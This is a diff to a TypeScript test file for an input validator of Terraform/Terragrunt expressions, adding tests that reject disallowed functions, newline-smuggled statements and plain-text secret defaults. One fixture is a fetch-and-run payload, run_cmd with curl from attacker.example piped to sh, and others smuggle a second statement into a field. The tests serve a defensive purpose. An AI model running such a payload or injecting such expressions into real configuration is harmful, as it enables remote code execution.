@@ -28,7 +28,7 @@ describe("validateInputs: types", () => {
       count: 3,
       ha: false,
     });
-    expect(result).toEqual({ ok: true, inputs: { name: "x", count: 3, ha: false }, notes: [] });
+    expect(result).toEqual({ ok: true, inputs: { name: "x", count: 3, ha: false }, notes: [], dependencies: [] });
   });
 
   it("is strict: a numeric string is not a number, a number is not a string", async () => {
@@ -83,7 +83,7 @@ describe("validateInputs: types", () => {
     const vars = [variable("a", "string", { nullable: false, ...optional("x") }), variable("b", "string", optional("y"))];
     const result = await validateInputs(vars, { a: null, b: null });
     expect(!result.ok && result.errors).toEqual([{ path: "a", message: "Must not be null" }]);
-    expect(await validateInputs(vars, { b: null })).toEqual({ ok: true, inputs: { b: null }, notes: [] });
+    expect(await validateInputs(vars, { b: null })).toEqual({ ok: true, inputs: { b: null }, notes: [], dependencies: [] });
   });
 
   it("omits inputs equal to their default and optional attributes equal to theirs", async () => {
@@ -99,11 +99,11 @@ describe("validateInputs: types", () => {
       net: { cidr: "10.0.0.0/16", az: "a" },
       subnets: [{ cidr: "10.0.1.0/24", az: "a", public: null }, { cidr: "10.0.2.0/24", az: "b" }],
     });
-    expect(result).toEqual({ ok: true, inputs: { subnets: [{ cidr: "10.0.1.0/24" }, { cidr: "10.0.2.0/24", az: "b" }] }, notes: [] });
+    expect(result).toEqual({ ok: true, inputs: { subnets: [{ cidr: "10.0.1.0/24" }, { cidr: "10.0.2.0/24", az: "b" }] }, notes: [], dependencies: [] });
   });
 
   it("keeps a required input even when it equals nothing special", async () => {
-    expect(await validateInputs([variable("n", "number")], { n: 0 })).toEqual({ ok: true, inputs: { n: 0 }, notes: [] });
+    expect(await validateInputs([variable("n", "number")], { n: 0 })).toEqual({ ok: true, inputs: { n: 0 }, notes: [], dependencies: [] });
   });
 
   it("normalises strings to NFC, as HCL does", async () => {
@@ -116,15 +116,24 @@ describe("validateInputs: raw fields and expressions", () => {
   it("parses raw text as JSON or HCL and type-checks it", async () => {
     const vars = [variable("a", "any"), variable("b", "tuple([string, number])"), variable("c", "any")];
     const result = await validateInputs(vars, {
-      a: { __hcl: '{ name = "x", list = [1, 2], ref = dependency.vpc.outputs.id, lit = "$${x}" }' },
+      a: { __hcl: '{ name = "x", list = [1, 2], lit = "$${x}" }' },
       b: { __hcl: '["a", 2]' },
       c: { __hcl: '"plain"' },
     });
     expect(result).toEqual({
       ok: true,
-      inputs: { a: { name: "x", list: [1, 2], ref: { __expr: "dependency.vpc.outputs.id" }, lit: "${x}" }, b: ["a", 2], c: "plain" },
+      inputs: { a: { name: "x", list: [1, 2], lit: "${x}" }, b: ["a", 2], c: "plain" },
       notes: [],
+      dependencies: [],
     });
+  });
+
+  it("refuses expressions inside raw text, in HCL or as JSON markers, unless their path is a reference", async () => {
+    const vars = [variable("a", "any")];
+    const hcl = await validateInputs(vars, { a: { __hcl: '{ ref = dependency.vpc.outputs.id, cmd = run_cmd("id") }' } });
+    expect(!hcl.ok && hcl.errors.map((e) => e.path)).toEqual(['a["cmd"]', 'a["ref"]']);
+    const json = await validateInputs(vars, { a: { __hcl: '{"x": {"__expr": "run_cmd(\\"id\\")"}}' } });
+    expect(!json.ok && json.errors).toEqual([{ path: 'a["x"]', message: expect.stringMatching(/switch the field to "Reference"/) }]);
   });
 
   it("reports raw text that is neither JSON nor HCL, or has the wrong type", async () => {
@@ -143,12 +152,15 @@ describe("validateInputs: raw fields and expressions", () => {
     expect(!literalExpr.ok && literalExpr.errors[0]!.message).toMatch(/plain value/);
     const broken = await validateInputs(vars, { password: { __expr: "get_env(" } });
     expect(!broken.ok && broken.errors[0]!.message).toMatch(/Not a valid HCL expression/);
-    const injected = await validateInputs(vars, { password: { __expr: "x\nother = 1" } });
-    expect(!injected.ok && injected.errors[0]!.message).toBe("Enter a single expression");
-    expect(await validateInputs(vars, { password: { __expr: 'get_env("DB_PASSWORD")' } })).toEqual({
+    const injected = await validateInputs(vars, { password: { __expr: 'get_env("A")\nother = 1' } });
+    expect(!injected.ok && injected.errors[0]!.message).toMatch(/^Not a valid HCL expression: unexpected "other"/);
+    const withDefault = await validateInputs(vars, { password: { __expr: 'get_env("DB_PASSWORD", "hunter2")' } });
+    expect(!withDefault.ok && withDefault.errors[0]!.message).toMatch(/default would be committed in plain text/);
+    expect(await validateInputs(vars, { password: { __expr: ' get_env( "DB_PASSWORD" ) ' } })).toEqual({
       ok: true,
       inputs: { password: { __expr: 'get_env("DB_PASSWORD")' } },
       notes: [],
+      dependencies: [],
     });
   });
 });
@@ -200,10 +212,83 @@ describe("validateInputs: conditions", () => {
     expect(result).toEqual({
       ok: true,
       inputs: { x: "a", r: { __expr: 'get_env("R")' } },
+      dependencies: [],
       notes: [
         { path: "x", condition: "fileexists(var.x)", errorMessage: "must exist" },
         { path: "r", condition: "length(var.r) > 8", errorMessage: "long" },
       ],
     });
+  });
+});
+
+describe("validateInputs: the expression allowlist (security review, issue 8)", () => {
+  const attack = { __expr: 'run_cmd("sh","-c","curl -s http://attacker.example/x|sh")' };
+  const vars = [
+    variable("name", "string"),
+    variable("port", "number", optional(8080)),
+    variable("subnet_ids", "list(string)", optional([])),
+    variable("network", "object({ vpc_id = string, tags = optional(map(string)) })", optional(null)),
+    variable("token", "string", { sensitive: true, required: false, defaultJson: null }),
+  ];
+  const references = (...paths: string[]) => ({ expressions: { style: "terragrunt" as const, referencePaths: new Set(paths) } });
+
+  it("refuses the attack payload on an ordinary field: it takes a plain value", async () => {
+    const result = await validateInputs(vars, { name: attack });
+    expect(result).toEqual({ ok: false, errors: [{ path: "name", message: expect.stringMatching(/^This field takes a plain value. To use a reference, switch the field to "Reference" first/) }], notes: [] });
+  });
+
+  it("refuses it as a reference and as a sensitive input too, naming the function", async () => {
+    const asReference = await validateInputs(vars, { name: attack }, references("name"));
+    expect(!asReference.ok && asReference.errors).toEqual([{ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) }]);
+    const asSecret = await validateInputs(vars, { name: "x", token: { __expr: 'sops_decrypt_file("secrets.yaml")' } });
+    expect(!asSecret.ok && asSecret.errors).toEqual([{ path: "token", message: expect.stringMatching(/^The function sops_decrypt_file\(\) is not allowed/) }]);
+  });
+
+  it("accepts allowed references where the builder switched the field, in canonical form, with the dependencies they read", async () => {
+    const result = await validateInputs(
+      vars,
+      {
+        name: { __expr: "dependency.app.outputs.name" },
+        subnet_ids: { __expr: "dependency.vpc /* private */ .outputs.private_subnets" },
+        network: { vpc_id: { __expr: "dependency.vpc.outputs.vpc_id" }, tags: { team: { __expr: 'get_env("TEAM")' } } },
+        port: { __expr: 'tonumber(get_env("PORT"))' },
+      },
+      references("name", "subnet_ids", "network.vpc_id", 'network.tags["team"]', "port"),
+    );
+    expect(result).toEqual({
+      ok: true,
+      inputs: {
+        name: { __expr: "dependency.app.outputs.name" },
+        subnet_ids: { __expr: "dependency.vpc.outputs.private_subnets" },
+        network: { vpc_id: { __expr: "dependency.vpc.outputs.vpc_id" }, tags: { team: { __expr: 'get_env("TEAM")' } } },
+        port: { __expr: 'tonumber(get_env("PORT"))' },
+      },
+      notes: [],
+      dependencies: [
+        { path: "name", name: "app" },
+        { path: "subnet_ids", name: "vpc" },
+        { path: "network.vpc_id", name: "vpc" },
+      ],
+    });
+  });
+
+  it("type-checks expressions whose type is known", async () => {
+    const result = await validateInputs(vars, { name: "x", port: { __expr: 'get_env("PORT")' }, subnet_ids: { __expr: 'get_env("IDS")' } }, references("port", "subnet_ids"));
+    expect(!result.ok && result.errors).toEqual([
+      { path: "port", message: "Must be a number; this expression gives a string: wrap it in tonumber(…)" },
+      { path: "subnet_ids", message: "Must be a list(string); this expression gives a string" },
+    ]);
+  });
+
+  it("allows var. and local. only in plain module blocks", async () => {
+    const terragrunt = await validateInputs(vars, { name: { __expr: "var.name" } }, references("name"));
+    expect(!terragrunt.ok && terragrunt.errors[0]!.message).toMatch(/^var\.<name> references are not available in this file/);
+    const terraform = await validateInputs(vars, { name: { __expr: "var.name" } }, { expressions: { style: "terraform", referencePaths: new Set(["name"]) } });
+    expect(terraform.ok && terraform.inputs).toEqual({ name: { __expr: "var.name" } });
+  });
+
+  it("leaves the expressions of a unit copied byte for byte alone", async () => {
+    const result = await validateInputs(vars, { name: { __expr: "local.name" } }, { expressions: { style: "terragrunt", referencePaths: new Set(), origin: "copied" } });
+    expect(result.ok && result.inputs).toEqual({ name: { __expr: "local.name" } });
   });
 });
